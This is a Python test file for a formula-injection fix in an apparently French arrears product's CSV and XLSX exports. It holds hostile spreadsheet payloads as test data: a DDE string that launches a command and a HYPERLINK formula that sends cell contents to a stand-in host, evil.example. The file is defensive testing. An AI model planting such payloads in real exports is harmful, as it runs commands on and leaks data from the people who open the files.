"""Formula injection: every CSV/XLSX cell the product writes that a spreadsheet would run as a formula
(= + - @, tab, CR) is neutralised by one helper (arrears.core.tabular), on each writer.

On main before this change the deposit list CSV wrote ``-2+3+CMD|' /C CALC'!A0`` raw, the KPI CSV wrote an
agency ``=HYPERLINK(…)`` raw and the KPI XLSX made it a live formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from arrears.core import models as m
from arrears.core.tabular import safe_cell, safe_row
from arrears.documents.batches import deposit_csv
from arrears.report.kpis import compute_kpis
from arrears.report.monthly import render_csv, render_xlsx
from openpyxl import load_workbook
from sqlalchemy.orm import Session
from test_kpis import build, record_pipeline

DDE = "-2+3+CMD|' /C CALC'!A0"
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    (DDE, "'" + DDE),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    # numbers as the product writes them stay numbers
    ("-12,50", "-12,50"),
    ("-1 234,56", "-1 234,56"),
    ("-0.050000", "-0.050000"),
    ("+5", "'+5"),
    ("-1 2", "'-1 2"),
    # ordinary text is untouched
    ("Agence Est", "Agence Est"),
    ("Mme Nadia =HYPERLINK(1)", "Mme Nadia =HYPERLINK(1)"),
    ("", ""),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", [None, -5, -12.5, 0, True])
def test_non_text_passes_through(value):
    assert safe_cell(value) is value
    assert safe_row([value, "=x"]) == [value, "'=x"]


def test_deposit_list_csv():
    rows = [{"line": 1, "number": "1A 000 000 0001 2", "addressee": DDE, "postcode": "69003",
             "town": "@LYON", "country": "FRANCE", "level": "R1", "ar": "Oui"}]
    records = list(csv.reader(io.StringIO(deposit_csv(rows)), delimiter=";"))
    assert records[1][2] == "'" + DDE
    assert records[1][4] == "'@LYON"
    assert records[1][1] == "1A 000 000 0001 2"


@pytest.fixture
def hostile_kpis(engine):
    build(engine)
    record_pipeline(engine)
    with Session(engine) as session:
        session.get(m.Agency, "A2").name = LINK
        session.commit()
    return compute_kpis(engine, "2025-09")


def test_kpi_csv(hostile_kpis):
    records = list(csv.reader(io.StringIO(render_csv(hostile_kpis).lstrip("\ufeff")), delimiter=";"))
    agencies = {r[2] for r in records[1:]}
    assert "'" + LINK in agencies
    assert not [a for a in agencies if a.startswith(("=", "+", "-", "@"))]
    # a negative figure is still a number for the spreadsheet
    values = [r[4] for r in records[1:] if r[4].startswith("-")]
    assert all(v.lstrip("-")[0].isdigit() for v in values)


def test_kpi_xlsx(hostile_kpis):
    wb = load_workbook(io.BytesIO(render_xlsx(hostile_kpis)))
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + LINK in texts
